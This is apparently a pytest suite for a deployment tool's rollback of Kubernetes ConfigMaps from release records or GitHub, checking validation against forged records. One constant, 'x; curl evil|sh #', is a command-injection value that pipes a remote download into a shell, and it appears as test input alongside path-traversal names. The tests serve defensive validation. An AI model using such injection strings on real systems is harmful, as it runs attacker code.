"""A rollback takes the configuration back, from what the record kept, else from GitHub, and goes on where neither has it."""

import json
import shlex
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest

from runbooks.clients.github.access import GithubSettings, GithubToken
from runbooks.clients.github.client import GithubClient
from runbooks.clients.kubernetes.cluster import ClusterClient
from runbooks.fleet.configurations import LARGEST, configuration_from, configurations_data, sha256_of
from runbooks.fleet.fleet import Fleet, Release, ReleasedService, utc_now
from runbooks.fleet.records import ReleasedConfiguration, releases_from
from runbooks.kit.plan import Image, ImageChange, Plan
from runbooks.kit.steps import PlainPulse, Results, StepContext, applied
from runbooks.kit.train import Part, Train
from runbooks.manifests.planning import ALONE, plan_part
from runbooks.manifests.reading import WantedConfigMap
from runbooks.manifests.settings import ManifestSettings
from runbooks.manifests.steps import Applied, ApplyConfigMap, KeepConfiguration, Kept, differences, keep
from runbooks.redaction.redactor import default_redactor
from sandbox.outside.github import CONFIG, NAME, OWNER, Github, commit_of, error
from tests.support.real import Place, image

OLD = WantedConfigMap(name="backend-config", data={"LOG_LEVEL": "info"}, source=CONFIG)


@pytest.fixture
async def github() -> AsyncIterator[Github]:
    server = Github()
    async with server.serve():
        yield server


def _change(before: str = "v2.0.0", after: str = "v1.2.0") -> ImageChange:
    images: list[Image] = [image("backend", before), image("backend", after)]
    return ImageChange(
        service="backend", namespace="x", deployment="backend", container="backend", before=images[0], after=images[1]
    )


async def _back(here: Place, github: Github, **options: str) -> Part:
    settings = GithubSettings(repository=f"{OWNER}/{NAME}", api_url=github.url)
    clients = {
        ManifestSettings: ManifestSettings(paths=(CONFIG,)),
        GithubClient: GithubClient(settings, GithubToken(default_redactor()), default_redactor()),
        ClusterClient: here.cluster,
        Fleet: here.fleet,
    }
    train = Train(
        environment=here.environment,
        version="v1.2.0",
        changes=(_change(),),
        going_back=True,
        clients=clients,
        options=options,
        now=datetime.now(UTC),
    )
    return await plan_part(train)


def _context(here: Place) -> StepContext:
    services = {ClusterClient: here.cluster, Fleet: here.fleet}
    return StepContext(pulse=PlainPulse("run"), environment=here.environment, services=services)


async def _recorded(here: Place, step: KeepConfiguration | None) -> None:
    """v1.2.0 with that configuration, as a deploy records it."""
    kept = Kept.model_validate(await applied(step, _context(here))).configuration if step is not None else None
    services = (ReleasedService(service="backend", image=image("backend", "v1.2.0")),)
    release = Release(version="v1.2.0", services=services, run="one", by="Maya", at=utc_now(), configuration=kept)
    await here.fleet.record_release(here.environment, release)


async def test_it_is_read_from_the_record_without_github_and_applied_before_the_pods_start(
    here: Place, github: Github
) -> None:
    await here.cluster.apply_config_map(here.namespace, "backend-config", {"LOG_LEVEL": "debug", "NEW": "1"}, {})
    await _recorded(here, keep("a" * 40, (OLD,)))
    github.fault = lambda _: error(503, "Service unavailable")
    part = await _back(here, github)
    (step,) = part.before
    assert isinstance(step, ApplyConfigMap)
    assert [(each.key, each.before, each.after) for each in step.differences] == [
        ("LOG_LEVEL", "debug", "info"),
        ("NEW", "1", None),
    ]
    assert part.notes == (
        "The configuration in the table goes back to the one of v1.2.0 (commit aaaaaaa), before the pods start.",
    )
    await here.take("run")
    done = Applied.model_validate(await applied(step, _context(here)))
    assert done.problem == ""
    assert (await here.cluster.config_map(here.namespace, "backend-config")).data == {"LOG_LEVEL": "info"}
    (again,) = part.after  # the release of the rollback has it, too
    assert isinstance(again, KeepConfiguration)
    assert (await _back(here, github)).before == ()


async def test_what_the_record_did_not_keep_is_read_from_github_at_its_commit(here: Place, github: Github) -> None:
    huge = WantedConfigMap(name="backend-config", data={"A": "x" * LARGEST}, source=CONFIG)
    secret = WantedConfigMap(name="backend-config", data={"A": "password=hunter2hunter2"}, source=CONFIG)
    assert keep("a" * 40, (huge,)).text == keep("a" * 40, (secret,)).text == ""
    await _recorded(here, keep(commit_of("v1.2.0"), (huge,)))
    (step,) = (await _back(here, github)).before
    assert isinstance(step, ApplyConfigMap)
    assert step.wanted.data == {"LOG_LEVEL": "info", "FHIR": "R4"}
    github.fault = lambda _: error(503, "Service unavailable")
    part = await _back(here, github)
    assert part.before == part.after == ()
    assert part.not_done == ("configuration",)
    assert "`config apply v1.2.0 --env production` applies" in part.warnings[0]


@pytest.mark.parametrize(
    ("options", "said"), [({}, "none is recorded for v1.2.0"), ({ALONE: "backend"}, "only backend goes back")]
)
async def test_what_is_not_known_or_not_of_all_services_stays_as_it_is(
    here: Place, github: Github, options: dict[str, str], said: str
) -> None:
    await _recorded(here, keep("a" * 40, (OLD,)) if options else None)
    part = await _back(here, github, **options)
    assert (part.before, part.after, part.not_done) == ((), (), ("configuration",))
    assert said in part.notes[0]
    assert "`config apply v1.2.0 --env production`" in part.notes[0]


async def test_a_config_map_that_can_not_be_applied_does_not_stop_the_rollback_and_is_not_recorded(
    here: Place, github: Github
) -> None:
    await here.take("run")
    step = ApplyConfigMap(namespace="nowhere", wanted=OLD, differences=(), commit="a" * 40, back=True)
    done = await applied(step, _context(here))
    assert "ConfigMap backend-config was not taken back: " in Applied.model_validate(done).problem
    results = Results()
    results.keep(step, done)
    services = {ClusterClient: here.cluster, Fleet: here.fleet}
    context = StepContext(pulse=PlainPulse("run"), environment=here.environment, services=services, results=results)
    assert Kept.model_validate(await applied(keep("a" * 40, (OLD,)), context)).configuration is None


def test_the_newest_that_fit_are_kept_and_one_that_somebody_edited_is_none() -> None:
    data: dict[str, str] = {}
    texts = [f"{number}" * 100_000 for number in range(9)]
    for text in (*texts, texts[4]):
        data = configurations_data(text, data)
    assert [text for text in texts if configuration_from(data, sha256_of(text))] == texts[1:]
    assert data["order"].split()[0] == sha256_of(texts[4])
    assert configuration_from({sha256_of("a"): "b"}, sha256_of("a")) is None


def test_a_release_without_a_configuration_is_written_as_the_version_before_wrote_it() -> None:
    release = Release(version="v1.2.0", services=(), run="one", by="Maya", at=utc_now())
    assert "configuration" not in release.model_dump()
    known = release.model_copy(update={"configuration": ReleasedConfiguration(commit="a" * 40, sha256="b" * 64)})
    assert Release.model_validate_json(known.model_dump_json()) == known


_PASTED = "x; curl evil|sh #"


@pytest.mark.parametrize(
    "changed", [{"commit": _PASTED}, {"commit": "a" * 39}, {"commit": "a" * 40 + "\n"}, {"sha256": "B" * 64}]
)
def test_a_configuration_that_is_not_a_commit_and_a_hash_is_unknown_and_hides_no_release(
    changed: dict[str, str],
) -> None:
    known = ReleasedConfiguration(commit="a" * 40, sha256="b" * 64)
    release = Release(version="v1.2.0", services=(), run="one", by="Maya", at=utc_now(), configuration=known)
    entry = {**json.loads(release.model_dump_json()), "configuration": {**known.model_dump(), **changed}}
    found = releases_from({"releases": json.dumps([entry])})
    assert found.releases == (release.model_copy(update={"configuration": None}),)
    (warning,) = found.warnings
    assert "release record of v1.2.0, `configuration` is not a commit with a SHA-256, so it is unknown" in warning


@pytest.mark.parametrize(
    "forged",
    [
        {"source": _PASTED},
        {"source": "devops/kubernetes/other.yaml"},
        {"name": "../../secrets/backend"},
        {"name": "backend-config\n"},
        {"labels": {"app": "a b"}},
        {"labels": {"/app": "a"}},
        {"data": {"../x": "1"}},
    ],
)
async def test_a_kept_config_map_that_the_files_can_not_have_is_not_used(
    here: Place, github: Github, forged: dict[str, Any]
) -> None:
    wanted = OLD.model_copy(update=forged)
    await _recorded(here, keep(commit_of("v1.2.0"), (wanted,)))
    part = await _back(here, github)
    (step,) = part.before
    assert isinstance(step, ApplyConfigMap)
    assert step.wanted.data == {"LOG_LEVEL": "info", "FHIR": "R4"}, "as GitHub has it"
    (warning,) = part.warnings
    assert "kept for v1.2.0" in warning


async def test_a_config_map_that_is_kept_twice_is_not_used(here: Place, github: Github) -> None:
    await _recorded(here, keep(commit_of("v1.2.0"), (OLD, OLD)))
    part = await _back(here, github)
    assert len(part.before) == len(part.warnings) == 1


def test_what_a_person_pastes_contains_no_command_of_somebody_else() -> None:
    forged = OLD.model_copy(update={"source": _PASTED})
    step = ApplyConfigMap(namespace="prod", wanted=forged, differences=(), commit=_PASTED)
    (line,) = step.by_hand()
    assert shlex.split(line)[:4] == ["git", "show", f"{_PASTED}:{_PASTED}", "|"]


def _step(name: str, value: str = "info", *, back: bool = True) -> ApplyConfigMap:
    wanted = WantedConfigMap(name=name, data={"LOG_LEVEL": value}, source=CONFIG)
    return ApplyConfigMap(
        namespace="prod",
        wanted=wanted,
        differences=differences({}, wanted.data),
        commit="a" * 40,
        back=back,
        again="config apply v1.2.0 --env production" if back else "",
    )


def _plan(*steps: ApplyConfigMap, warnings: tuple[str, ...] = ()) -> Plan:
    return Plan(title="Roll back production", steps=(_ROLLS, *steps, keep("a" * 40, (), steps)), warnings=warnings)


_ROLLS = _step("stands-for-the-services", back=False)
_LEFT = "Not confirmed, so left out: ConfigMap b. `config apply v1.2.0 --env production` applies it."


@pytest.mark.parametrize(
    ("confirmed", "now", "left", "fits"),
    [
        ((_step("a"),), (_step("a"),), ("a",), True),
        ((_step("a"),), (), (), True),
        ((_step("a"),), (_step("a").model_copy(update={"differences": ()}),), ("a",), True),
        ((_step("a"),), (_step("a"), _step("b")), ("a",), False),
        ((_step("a"), _step("b", "old")), (_step("a"), _step("b")), ("a",), False),
        ((), (_step("b"),), (), False),
        ((), (_step("b", back=False),), ("b",), False),
    ],
)
def test_a_rollback_is_carried_out_without_the_config_maps_that_nobody_confirmed(
    confirmed: tuple[ApplyConfigMap, ...], now: tuple[ApplyConfigMap, ...], left: tuple[str, ...], fits: bool
) -> None:
    before, made = _plan(*confirmed), _plan(*now)
    assert made.still_fits(before) is fits
    again = made.as_confirmed(before)
    assert tuple(step.target for step in again.steps if isinstance(step, ApplyConfigMap))[1:] == left
    if all(step.back for step in now):
        assert again.ends_as(before), "nobody is asked again"
        assert made.still_fits(again), "what is left out is told by then"
        assert again.warnings == (() if fits else (_LEFT,))
    else:
        assert (again, again.ends_as(before)) == (made, False)


async def test_a_release_whose_config_maps_were_left_out_is_not_recorded_with_them(here: Place) -> None:
    made = _plan(_step("b")).as_confirmed(_plan())
    results = Results()
    results.keep(_ROLLS, {"name": "x", "resource_version": "1"})
    kept = await applied(made.steps[-1], replace(_context(here), results=results))
    assert Kept.model_validate(kept).configuration is None
